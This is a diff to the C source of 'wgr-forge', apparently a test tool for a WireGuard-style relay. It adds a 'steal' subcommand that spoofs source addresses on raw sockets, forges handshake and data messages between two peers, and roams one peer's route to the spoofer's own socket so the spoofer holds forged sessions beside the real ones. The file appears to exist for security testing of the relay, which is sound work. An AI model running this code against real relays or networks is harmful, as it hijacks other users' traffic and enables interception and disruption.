@@ -78,6 +78,19 @@
  * to A, A sends the first data on it. Repeats every 5 s for SECONDS (default
  * one round). Prints how many rounds the relay passed on; exits 0.
  *
+ *   wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS
+ *
+ * A spoofer steals the pair route of V (at V_ADDR:V_PORT) to Q (at Q_ADDR:Q_PORT),
+ * two peers that talk through the relay (pass 6, G6). From raw sockets it stages
+ * a session of its own between their endpoints: an initiation to Q "from" V, a
+ * response to it naming V "from" Q, the first data "from" V. Then one data
+ * message on the staged initiator index from its own socket Z roams Q's half of
+ * it to Z: V's next initiations to Q follow the route there. For SECONDS it keeps
+ * that session alive (data from Z every 5 s) and answers every initiation that
+ * reaches Z with a response naming V, from Z, and the first data "from" V, so
+ * that a staged session of its own is confirmed beside each real one. Prints
+ * what it achieved; exits 0.
+ *
  *   wgr-forge fill ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
  *
  * Fills a relay's session table with confirmed pairs of its own, as an insider
@@ -719,6 +732,81 @@ static int spoofstage(int argc, char **argv)
 	return 0;
 }
 
+/* wgr-forge steal: see the top of this file. */
+static int steal(int argc, char **argv)
+{
+	uint32_t held[HOLD_MAX], s_index, r_index;
+	uint64_t counter = 1u << 20;
+	struct spoofer from_v, from_q;
+	struct sockaddr_storage to;
+	uint8_t q[32], v[32], msg[1600];
+	long seconds, reached = 0, n_held = 0;
+	double start = now_s(), next;
+	socklen_t len;
+	int z;
+
+	if (argc != 11 || !(len = parse_ep(&to, argv[2], argv[3])) ||
+	    !key_from_base64(q, argv[8]) || !key_from_base64(v, argv[9]) ||
+	    (seconds = strtol(argv[10], NULL, 10)) <= 0 || seconds > 3600) {
+		fprintf(stderr, "usage: wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT "
+				"PUB_Q PUB_V SECONDS(1..3600)\n");
+		return 2;
+	}
+	if (spoofer_open(&from_v, argv[4], argv[5], argv[2], argv[3]) ||
+	    spoofer_open(&from_q, argv[6], argv[7], argv[2], argv[3]))
+		return 1;
+	z = stage_socket(&to, len);
+
+	fill_random(&s_index, sizeof(s_index));
+	make("initiation", msg, q);
+	put_le32(msg + 4, s_index);
+	set_mac1(msg, 116, q);
+	if (spoofer_send(&from_v, msg, 148))
+		return 1;
+	usleep(200000);
+	r_index = make_response(msg, s_index, v);
+	if (spoofer_send(&from_q, msg, 92))
+		return 1;
+	usleep(200000);
+	make_data(msg, r_index, 0);
+	if (spoofer_send(&from_v, msg, 32))
+		return 1;
+	usleep(200000);
+	held[n_held++] = s_index;
+	next = now_s();
+	while (now_s() - start < seconds) {
+		struct pollfd pfd = { .fd = z, .events = POLLIN };
+		ssize_t n;
+
+		if (now_s() >= next) {
+			/* Q's side of every session it holds, from Z: the first one roams. */
+			for (long i = 0; i < n_held; i++) {
+				make_data(msg, held[i], counter++);
+				send(z, msg, 32, 0);
+			}
+			next += 5;
+		}
+		if (poll(&pfd, 1, 200) <= 0)
+			continue;
+		n = recv(z, msg, sizeof(msg), MSG_DONTWAIT);
+		if (n != 148 || msg[0] != 1)
+			continue;
+		reached++;
+		s_index = get_le32(msg + 4);
+		r_index = make_response(msg, s_index, v);
+		send(z, msg, 92, 0);
+		usleep(100000);
+		make_data(msg, r_index, 0);
+		if (spoofer_send(&from_v, msg, 32))
+			return 1;
+		if (n_held < HOLD_MAX)
+			held[n_held++] = s_index;
+	}
+	printf("steal: %ld initiations reached the spoofer's socket, %ld sessions held\n",
+	       reached, n_held);
+	return 0;
+}
+
 /* An even stream of handshake junk from several ports of one host. */
 static int mix(int argc, char **argv)
 {
@@ -990,6 +1078,8 @@ int main(int argc, char *argv[])
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "steal"))
+		return steal(argc, argv);
 	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
 		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
 
